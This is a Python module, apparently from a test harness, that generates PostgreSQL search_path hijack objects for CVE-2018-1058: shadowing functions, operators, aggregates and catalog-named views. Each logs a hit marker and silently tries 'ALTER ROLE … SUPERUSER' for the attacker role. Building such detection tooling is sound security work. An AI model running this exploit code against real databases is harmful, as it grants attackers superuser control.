"""The attacker's objects, generated from the SQL surface the tool exposed (see :mod:`sql_surface`).

How the overloads are chosen (CVE-2018-1058): PostgreSQL takes a function or operator whose argument
types match the call *exactly* over one that needs an implicit cast, in whatever schema of the path
it sits; ``pg_catalog`` wins only among identical signatures. So for every name the tool calls, and
every ``pg_catalog`` function (or operator) of that name that takes that many arguments, the attacker
declares variants whose argument types a caller may really pass there:

- a position of a concrete type T takes T itself (a literal or a parameter of unknown type lands
  there) and every *plausible* type with an implicit cast to T (``pg_cast.castcontext = 'i'``;
  arrays of those for an array T);
- a position of a pseudo-type (``"any"``, ``anyelement``, ``anyarray``, …) takes every plausible type
  that fits it.

*Plausible* (the limit): the types an expression of the tool's SQL can have — the columns its
statements name of the catalog relations they read, what psycopg sends for Python values (int2,
int4, int8, numeric, float8, text, bool and their arrays), literal types, the types it casts to,
and (to a fixpoint) the results of the functions and operators it names that accept those types.
Combinations identical to a ``pg_catalog`` signature are left out (they never win). Where the original
is polymorphic (``anyelement``, ``anyarray``, …) each combination is probed in a throwaway view: those
``pg_catalog`` cannot take (elements and arrays that do not agree) are left out, and the others learn
their result type there. No name may yield more than :data:`MAX_PER_NAME` variants: :func:`plan`
raises instead of silently dropping any.

Every attacker function is plpgsql, owned by the attacker, SECURITY INVOKER (it runs as whoever
calls it), with its own ``search_path`` (so its body cannot call itself), and it returns what the
``pg_catalog`` original returns for these arguments, so the tool carries on as if nothing happened
(an attacker aggregate's state function only keeps its state: its result is NULL). Each calls :func:`public.hostile_hit`, which logs ``hostile-hit: <what>`` (kept even when the caller's
transaction is read-only or rolled back), inserts a row into ``public.hostile_marker`` (INSERT
granted to PUBLIC) and tries ``ALTER ROLE <attacker> SUPERUSER``. Relations: a view in ``public`` for
every catalog relation the tool reads, whose every read runs the attacker (see :func:`_relation_sql`).
"""

from __future__ import annotations

import itertools
from dataclasses import dataclass, field

from psycopg import sql

from sql_surface import Surface

MAX_PER_NAME = 4000  # variants per (function name, arity) or operator symbol: raise, never truncate
PYTHON_VALUE_TYPES = ("int2", "int4", "int8", "numeric", "float8", "text", "bool",
                      "int2[]", "int4[]", "int8[]", "numeric[]", "text[]")
LITERAL_TYPES = ("int4", "int8", "numeric", "text", "bool")
_ANY = {"any", "anyelement", "anycompatible"}
_NONARRAY = {"anynonarray", "anycompatiblenonarray"}
_ARRAY = {"anyarray", "anycompatiblearray"}


@dataclass(frozen=True)
class TypeInfo:
    oid: int
    name: str  # format_type(oid, NULL): usable in DDL
    typname: str
    typtype: str
    elem: int
    array: int

    @property
    def pseudo(self) -> bool:
        return self.typtype == "p"

    @property
    def is_array(self) -> bool:
        return self.elem != 0 and self.name.endswith("[]")


@dataclass(frozen=True)
class Variant:
    kind: str  # "function", "aggregate", "operator"
    name: str  # function name or operator symbol
    args: tuple[int, ...]  # argument type oids (an operator's: (left, right), or (right,) for a prefix one)
    prefix: bool = False

    def label(self, types: dict[int, TypeInfo]) -> str:
        names = ", ".join(types[a].name for a in self.args)
        if self.kind == "operator":
            return f"operator {self.name}({'NONE, ' if self.prefix else ''}{names})"
        return f"{'aggregate ' if self.kind == 'aggregate' else ''}{self.name}({names})"


@dataclass
class Plan:
    """What :func:`plan` chose; :func:`create` turns it into objects."""

    types: dict[int, TypeInfo]
    plausible: set[int]
    variants: list[tuple[Variant, Shape]] = field(default_factory=list)
    relations: list[tuple[str, list[str]]] = field(default_factory=list)  # catalog relation, its columns
    not_catalog: set[str] = field(default_factory=set)  # names read that are CTEs or aliases
    uncallable: int = 0  # combinations pg_catalog cannot be called with (dropped)
    per_name: dict[str, int] = field(default_factory=dict)

    def count(self, kind: str) -> int:
        return sum(1 for v, _ in self.variants if v.kind == kind)

    def describe(self) -> str:
        return (f"{self.count('function')} function overloads, {self.count('aggregate')} aggregates, "
                f"{self.count('operator')} operators, {len(self.relations)} relations "
                f"({len(self.plausible)} plausible argument types; {self.uncallable} combinations "
                f"pg_catalog cannot take were dropped)")


# --- the catalog ------------------------------------------------------------------------------------

def _types(conn) -> dict[int, TypeInfo]:
    return {int(o): TypeInfo(int(o), n, tn, t, int(e), int(a)) for o, n, tn, t, e, a in conn.execute(
        "SELECT oid, format_type(oid, NULL), typname::text, typtype::text, typelem, typarray FROM pg_type")}


def _implicit_sources(conn) -> dict[int, set[int]]:
    sources: dict[int, set[int]] = {}
    for source, target in conn.execute("SELECT castsource, casttarget FROM pg_cast WHERE castcontext = 'i'"):
        sources.setdefault(int(target), set()).add(int(source))
    return sources


def _procs(conn, names: list[str]) -> list[dict]:
    rows = conn.execute(
        "SELECT oid, proname::text, prokind::text, pronargs, pronargdefaults, provariadic, "
        "  proargtypes::oid[], prorettype, proretset, "
        "  coalesce((SELECT array_agg(t ORDER BY i) FROM unnest(proallargtypes, proargmodes) "
        "            WITH ORDINALITY AS u(t, m, i) WHERE m IN ('o', 't', 'b')), '{}'), "
        "  coalesce((SELECT array_agg(n ORDER BY i) FROM unnest(proallargtypes, proargmodes, proargnames) "
        "            WITH ORDINALITY AS u(t, m, n, i) WHERE m IN ('o', 't', 'b')), '{}') "
        "FROM pg_proc WHERE pronamespace = 'pg_catalog'::regnamespace AND proname = ANY(%s)", (names,))
    keys = ("oid", "name", "kind", "nargs", "ndefaults", "variadic", "args", "ret", "retset", "outs", "out_names")
    return [dict(zip(keys, r)) for r in rows]


def _operators(conn, symbols: list[str]) -> list[dict]:
    rows = conn.execute(
        "SELECT oid, oprname::text, oprkind::text, oprleft, oprright, oprresult FROM pg_operator "
        "WHERE oprnamespace = 'pg_catalog'::regnamespace AND oprname = ANY(%s)", (symbols,))
    return [dict(zip(("oid", "name", "kind", "left", "right", "ret"), r)) for r in rows]


def _declared(proc: dict, arity: int) -> tuple[int, ...] | None:
    """The argument types a call with ``arity`` arguments binds to, or None if it cannot."""
    args, nargs = [int(a) for a in proc["args"]], int(proc["nargs"])
    if arity == nargs:
        return tuple(args)
    if proc["variadic"] and arity >= nargs:
        return tuple(args[:-1] + [int(proc["variadic"])] * (arity - nargs + 1))
    if nargs - int(proc["ndefaults"]) <= arity < nargs:
        return tuple(args[:arity])
    return None


class _Candidates:
    def __init__(self, types: dict[int, TypeInfo], sources: dict[int, set[int]], plausible: set[int]) -> None:
        self.types, self.sources, self.plausible = types, sources, plausible

    def __call__(self, declared: int) -> list[int]:
        """The argument types a caller may pass where ``declared`` is expected (declared first)."""
        t = self.types[declared]
        p = sorted(self.plausible)
        if t.pseudo:
            if t.typname in _ANY:
                return p
            if t.typname in _NONARRAY:
                return [x for x in p if not self.types[x].is_array]
            if t.typname in _ARRAY:
                return [x for x in p if self.types[x].is_array]
            return []  # anyenum, anyrange, record, internal, cstring, …: nothing plausible fits
        out = [declared] + [s for s in p if s in self.sources.get(declared, ()) and s != declared]
        if t.is_array:
            elem_sources = self.sources.get(t.elem, set())
            out += [x for x in p if self.types[x].is_array and self.types[x].elem in elem_sources and x not in out]
        return out

    def accepts(self, declared: int) -> bool:
        """Whether some plausible type (not just an unknown literal) can be passed here."""
        t = self.types[declared]
        if t.pseudo:
            return bool(self(declared))
        return declared in self.plausible or len(self(declared)) > 1


def _plausible(conn, surface: Surface, types: dict[int, TypeInfo], sources: dict[int, set[int]],
               procs: list[dict], operators: list[dict]) -> set[int]:
    plausible: set[int] = set()
    relations = sorted(surface.relations | surface.regclass_literals)
    for rel, col, typ in conn.execute(
            "SELECT c.relname::text, a.attname::text, a.atttypid FROM pg_attribute a JOIN pg_class c "
            "ON c.oid = a.attrelid WHERE c.relnamespace = 'pg_catalog'::regnamespace AND c.relname = ANY(%s) "
            "AND a.attnum > 0 AND NOT a.attisdropped", (relations,)):
        if (rel, col) in surface.relation_words or (rel, "*") in surface.relation_words:
            plausible.add(int(typ))
    named = [*PYTHON_VALUE_TYPES, *LITERAL_TYPES]
    for name in named:
        plausible.add(int(conn.execute("SELECT %s::regtype::oid", (name,)).fetchone()[0]))
    for cast in surface.casts:
        row = conn.execute("SELECT to_regtype(%s)::oid", (cast,)).fetchone()
        if row and row[0]:
            plausible.add(int(row[0]))
    plausible = {t for t in plausible if not types[t].pseudo and types[t].name != "unknown"}
    arities = {(n, a) for n, a in surface.functions}
    for _ in range(5):  # results of what the tool calls, with what it can pass, to a fixpoint
        before = set(plausible)
        accept = _Candidates(types, sources, plausible).accepts
        for proc in procs:
            for name, arity in arities:
                declared = _declared(proc, arity) if name == proc["name"] else None
                if declared is None or not all(accept(d) for d in declared):
                    continue
                outs = [int(o) for o in proc["outs"]] or [int(proc["ret"])]
                plausible.update(o for o in outs if not types[o].pseudo)
        for op in operators:
            sides = [s for s in (op["left"], op["right"]) if s]
            if all(accept(int(s)) for s in sides) and not types[int(op["ret"])].pseudo:
                plausible.add(int(op["ret"]))
        if plausible == before:
            break
    return plausible


# --- planning -----------------------------------------------------------------------------------------

_POLYMORPHIC = _ANY - {"any"} | _NONARRAY | _ARRAY | {
    "anyenum", "anyrange", "anymultirange", "anycompatiblerange", "anycompatiblemultirange"}

# Asks the server what pg_catalog.<f>(<types>) resolves to and returns, without calling it: a view's
# columns and dependencies (used for polymorphic originals, whose result depends on the arguments).
_PROBE = """
CREATE FUNCTION pg_temp.hostile_probe(q text, fname text) RETURNS jsonb LANGUAGE plpgsql AS $probe$
DECLARE
  cols jsonb;
  deps jsonb;
BEGIN
  EXECUTE 'CREATE TEMP VIEW hostile_probe_v AS ' || q;
  SELECT jsonb_agg(jsonb_build_array(attname, format_type(atttypid, atttypmod)) ORDER BY attnum) INTO cols
    FROM pg_attribute WHERE attrelid = 'pg_temp.hostile_probe_v'::regclass AND attnum > 0;
  SELECT jsonb_agg(p.proretset) INTO deps
    FROM pg_depend d JOIN pg_proc p ON p.oid = d.refobjid
    WHERE d.classid = 'pg_rewrite'::regclass AND d.refclassid = 'pg_proc'::regclass AND p.proname = fname
      AND d.objid = (SELECT oid FROM pg_rewrite WHERE ev_class = 'pg_temp.hostile_probe_v'::regclass);
  DROP VIEW pg_temp.hostile_probe_v;
  RETURN jsonb_build_object('cols', cols, 'retset', coalesce(deps, '[]'));
EXCEPTION WHEN OTHERS THEN
  RETURN NULL;
END
$probe$
"""


@dataclass(frozen=True)
class Shape:
    """How an attacker object delegates to its pg_catalog original and what it returns."""

    call: str  # the body's call of the original ($1, $2, ...)
    columns: tuple[tuple[str, str], ...]  # result columns (name, type); one for a scalar
    retset: bool = False
    record: bool = False  # a single row of OUT parameters


def _is_polymorphic(types: dict[int, TypeInfo], oids) -> bool:
    return any(types[int(o)].typname in _POLYMORPHIC or types[int(o)].typname == "record" for o in oids)


def _fixed_shape(variant: Variant, origin: dict, types: dict[int, TypeInfo]) -> Shape:
    """The original takes concrete types (or "any"): cast to them, so exactly the original is called."""
    if variant.kind == "operator":
        sides = [origin["right"]] if variant.prefix else [origin["left"], origin["right"]]
        casts = [f"${i + 1}::{types[int(t)].name}" for i, t in enumerate(sides)]
        op = f"OPERATOR(pg_catalog.{variant.name})"
        call = f"{op} {casts[0]}" if variant.prefix else f"{casts[0]} {op} {casts[1]}"
        return Shape(call, (("r", types[int(origin["ret"])].name),))
    declared = _declared(origin, len(variant.args))
    args = ", ".join(f"${i + 1}" if types[d].pseudo else f"${i + 1}::{types[d].name}" for i, d in enumerate(declared))
    call = f"pg_catalog.{sql.Identifier(variant.name).as_string(None)}({args})"
    if origin["outs"]:
        columns = tuple((n, types[int(t)].name) for n, t in zip(origin["out_names"], origin["outs"]))
        return Shape(call, columns, bool(origin["retset"]), record=True)
    return Shape(call, ((variant.name, types[int(origin["ret"])].name),), bool(origin["retset"]))


def _probe_query(variant: Variant, types: dict[int, TypeInfo]) -> str:
    nulls = [f"NULL::{types[a].name}" for a in variant.args]
    if variant.kind == "operator":
        op = f"OPERATOR(pg_catalog.{variant.name})"
        return f"SELECT {op} {nulls[0]} AS r" if variant.prefix else f"SELECT {nulls[0]} {op} {nulls[1]} AS r"
    call = f"pg_catalog.{sql.Identifier(variant.name).as_string(None)}({', '.join(nulls)})"
    return f"SELECT {call}" if variant.kind == "aggregate" else f"SELECT * FROM {call}"


def _probed_shape(variant: Variant, answer: dict) -> Shape:
    n = len(variant.args)
    if variant.kind == "operator":
        call = f"OPERATOR(pg_catalog.{variant.name}) $1" if variant.prefix else \
            f"$1 OPERATOR(pg_catalog.{variant.name}) $2"
    else:
        call = f"pg_catalog.{sql.Identifier(variant.name).as_string(None)}({', '.join(f'${i + 1}' for i in range(n))})"
    columns = tuple((c, t) for c, t in answer["cols"])
    retset = any(answer["retset"])
    return Shape(call, columns, retset, record=len(columns) > 1)


def plan(conn, surface: Surface) -> Plan:
    """Choose the attacker's objects for this surface on this server (nothing is created)."""
    types = _types(conn)
    sources = _implicit_sources(conn)
    names = sorted({n for n, _ in surface.functions})
    procs = [p for p in _procs(conn, names) if p["kind"] in ("f", "a")]
    operators = _operators(conn, sorted({s for s, _ in surface.operators}))
    plausible = _plausible(conn, surface, types, sources, procs, operators)
    result = Plan(types, plausible)
    candidates = _Candidates(types, sources, plausible)

    existing_procs = {(p["name"], tuple(int(a) for a in p["args"])) for p in procs}
    existing_ops = {(o["name"], o["kind"], int(o["left"]), int(o["right"])) for o in operators}
    wanted: dict[Variant, dict] = {}  # variant -> its pg_catalog original (the first one found)
    for name, arity in sorted(surface.functions):
        found: dict[Variant, dict] = {}
        for proc in (p for p in procs if p["name"] == name):
            declared = _declared(proc, arity)
            if declared is None or arity == 0:
                continue  # f() has one signature: pg_catalog's comes first
            kind = "aggregate" if proc["kind"] == "a" else "function"
            for combo in itertools.product(*(candidates(d) for d in declared)):
                if (name, combo) not in existing_procs:
                    found.setdefault(Variant(kind, name, combo), proc)
            if len(found) > MAX_PER_NAME:
                raise AssertionError(f"{name}/{arity}: more than {MAX_PER_NAME} variants; raise MAX_PER_NAME "
                                     "(none may be dropped silently)")
        result.per_name[f"{name}/{arity}"] = len(found)
        wanted.update((v, o) for v, o in found.items() if v not in wanted)
    for symbol, kind in sorted(surface.operators):
        found = {}
        for op in (o for o in operators if o["name"] == symbol and o["kind"] == kind):
            lefts = candidates(int(op["left"])) if kind == "b" else [0]
            for left, right in itertools.product(lefts, candidates(int(op["right"]))):
                if (symbol, kind, left, right) not in existing_ops:
                    args = (left, right) if kind == "b" else (right,)
                    found.setdefault(Variant("operator", symbol, args, prefix=kind == "l"), op)
            if len(found) > MAX_PER_NAME:
                raise AssertionError(f"operator {symbol}: more than {MAX_PER_NAME} variants; raise MAX_PER_NAME "
                                     "(none may be dropped silently)")
        result.per_name[f"operator {symbol}"] = len(found)
        wanted.update((v, o) for v, o in found.items() if v not in wanted)

    fixed, probed = [], []
    for variant, origin in wanted.items():
        sides = ([origin["left"], origin["right"]] if variant.kind == "operator"
                 else list(_declared(origin, len(variant.args))))
        polymorphic = _is_polymorphic(types, [s for s in sides if s]) or (
            types[int(origin["ret"])].pseudo and not origin.get("outs"))
        (probed if polymorphic else fixed).append((variant, origin))
    result.variants = [(v, _fixed_shape(v, o, types)) for v, o in fixed]
    if probed:
        conn.execute("BEGIN")
        try:
            conn.execute(_PROBE)
            answers = conn.execute(
                "SELECT pg_temp.hostile_probe(q, n) FROM unnest(%s::text[], %s::text[]) WITH ORDINALITY AS u(q, n, i) "
                "ORDER BY i", ([_probe_query(v, types) for v, _ in probed], [v.name for v, _ in probed])).fetchall()
        finally:
            conn.execute("ROLLBACK")
        for (variant, _), (answer,) in zip(probed, answers):
            if answer is None:
                result.uncallable += 1  # e.g. anyelement and anyarray that do not agree
                continue
            result.variants.append((variant, _probed_shape(variant, answer)))

    relations = sorted(surface.relations | surface.regclass_literals)
    # A column of a pseudo-type (pg_attribute.attmissingval is anyarray) cannot be a view's.
    catalog = {r: cols for r, cols in conn.execute(
        "SELECT c.relname::text, array_agg(a.attname::text ORDER BY a.attnum) FROM pg_class c "
        "JOIN pg_attribute a ON a.attrelid = c.oid AND a.attnum > 0 AND NOT a.attisdropped "
        "JOIN pg_type t ON t.oid = a.atttypid AND t.typtype <> 'p' "
        "WHERE c.relnamespace = 'pg_catalog'::regnamespace AND c.relname = ANY(%s) GROUP BY 1", (relations,))}
    result.relations = [(r, list(catalog[r])) for r in relations if r in catalog]
    result.not_catalog = {r for r in relations if r not in catalog}
    return result


# --- creating them -------------------------------------------------------------------------------------

HELPERS = """
CREATE TABLE public.hostile_marker (
  hit text NOT NULL,
  as_role name NOT NULL DEFAULT current_user,
  app text DEFAULT current_setting('application_name'),
  at timestamptz NOT NULL DEFAULT now()
);
GRANT INSERT ON public.hostile_marker TO PUBLIC;
CREATE FUNCTION public.hostile_hit(what text) RETURNS void LANGUAGE plpgsql
SET search_path = pg_catalog, pg_temp AS $hit$
BEGIN
  IF current_setting('hostile.quiet', true) = 'on' THEN
    RETURN;  -- the attacker's own set-up (e.g. a materialized view being filled)
  END IF;
  IF current_setting('hostile.h' || md5(what), true) = 'on' THEN
    RETURN;  -- once per object and transaction is enough (an operator may run for every row)
  END IF;
  PERFORM set_config('hostile.h' || md5(what), 'on', true);
  RAISE LOG 'hostile-hit: % (as %, %)', what, current_user, current_setting('application_name');
  BEGIN
    INSERT INTO public.hostile_marker (hit) VALUES (what);
  EXCEPTION WHEN OTHERS THEN
    NULL;  -- e.g. a read-only transaction: the log line above still tells
  END;
  BEGIN
    EXECUTE format('ALTER ROLE %I SUPERUSER', {attacker});
  EXCEPTION WHEN OTHERS THEN
    NULL;  -- not a superuser caller
  END;
END
$hit$;
CREATE FUNCTION public.hostile_pass(what text, v anyelement) RETURNS anyelement LANGUAGE plpgsql
SET search_path = pg_catalog, pg_temp AS $pass$
BEGIN
  PERFORM public.hostile_hit(what);
  RETURN v;
END
$pass$;
"""
_SETTINGS = "LANGUAGE plpgsql SET search_path = pg_catalog, pg_temp"


def helpers_sql(attacker: str) -> str:
    """The marker table and the functions every attacker object calls (run as the attacker)."""
    return HELPERS.replace("{attacker}", sql.Literal(attacker).as_string(None))


def _ident(name: str) -> str:
    return sql.Identifier(name).as_string(None)


def _object_sql(index: int, variant: Variant, shape: Shape, types: dict[int, TypeInfo]) -> str:
    hit = f"PERFORM public.hostile_hit({sql.Literal(variant.label(types)).as_string(None)});"
    args = [types[a].name for a in variant.args]
    cols = shape.columns
    if variant.kind == "operator":
        fn = f"public.hostile_op_{index}"
        left = "" if variant.prefix else f"LEFTARG = {args[0]}, "
        return (f"CREATE FUNCTION {fn}({', '.join(args)}) RETURNS {cols[0][1]} {_SETTINGS} AS $h$ BEGIN {hit} "
                f"RETURN {shape.call}; END $h$;\n"
                f"CREATE OPERATOR public.{variant.name} ({left}RIGHTARG = {args[-1]}, FUNCTION = {fn});\n")
    if variant.kind == "aggregate":
        state, fn = cols[0][1], f"public.hostile_sfunc_{index}"
        return (f"CREATE FUNCTION {fn}({', '.join([state, *args])}) RETURNS {state} {_SETTINGS} AS $h$ BEGIN "
                f"{hit} RETURN $1; END $h$;\n"
                f"CREATE AGGREGATE public.{_ident(variant.name)}({', '.join(args)}) (SFUNC = {fn}, STYPE = {state});\n")
    columns = ", ".join(f"{_ident(c)} {t}" for c, t in cols)
    if shape.retset and shape.record:
        returns, body = f"RETURNS TABLE({columns})", f"RETURN QUERY SELECT * FROM {shape.call};"
    elif shape.retset:
        returns, body = f"RETURNS SETOF {cols[0][1]}", f"RETURN QUERY SELECT * FROM {shape.call};"
    elif shape.record:
        args = [*args, ", ".join(f"OUT {_ident(c)} {t}" for c, t in cols)]
        returns = ""
        body = f"SELECT * INTO {', '.join(_ident(c) for c, _ in cols)} FROM {shape.call}; RETURN;"
    else:
        returns, body = f"RETURNS {cols[0][1]}", f"RETURN {shape.call};"
    return (f"CREATE FUNCTION public.{_ident(variant.name)}({', '.join(args)}) {returns} {_SETTINGS} AS $h$ BEGIN "
            f"{hit} {body} END $h$;\n")


def _relation_sql(relation: str, columns: list[str]) -> str:
    """A view named like the catalog relation, with its columns, that runs the attacker on every read.

    The call sits in an uncorrelated subquery of the WHERE clause (evaluated once per read, whatever
    columns the reader asks for): a call per row and column made each catalog query take seconds.
    """
    label = sql.Literal(f"relation {relation}").as_string(None)
    select = ", ".join(f"c.{_ident(col)}" for col in columns)
    return (f"CREATE VIEW public.{_ident(relation)} AS SELECT {select} FROM pg_catalog.{_ident(relation)} c "
            f"WHERE (SELECT public.hostile_pass({label}, true));\n")


def create_sql(planned: Plan, attacker: str) -> str:
    """The attacker's whole script (run it as the attacker, in one transaction)."""
    parts = ["SET LOCAL search_path = pg_catalog, pg_temp;\n", helpers_sql(attacker)]
    parts += [_object_sql(i, v, shape, planned.types) for i, (v, shape) in enumerate(planned.variants)]
    parts += [_relation_sql(r, cols) for r, cols in planned.relations]
    return "".join(parts)
